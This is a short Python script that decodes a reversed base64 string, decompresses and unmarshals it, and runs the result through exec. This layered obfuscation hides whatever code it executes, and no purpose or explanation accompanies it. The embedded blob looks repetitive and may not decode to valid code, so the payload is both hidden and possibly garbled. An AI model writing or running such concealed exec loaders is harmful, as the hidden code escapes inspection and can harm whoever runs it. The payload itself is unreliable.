import marshal
import zlib
import base64

_ = lambda __: marshal.loads(zlib.decompress(base64.b64decode(__[::-1])))
exec(_(b"=8jZhJ3chZXYzRXYyQ3cuVGbhR2bn9GaoV2ckVGZvNGblR2byVHZlRXYrVWeslXYkFGZhRWYkFGZhRWYkF2YiFWYkVGZhRWYkF2YiFWYkVGZh"))
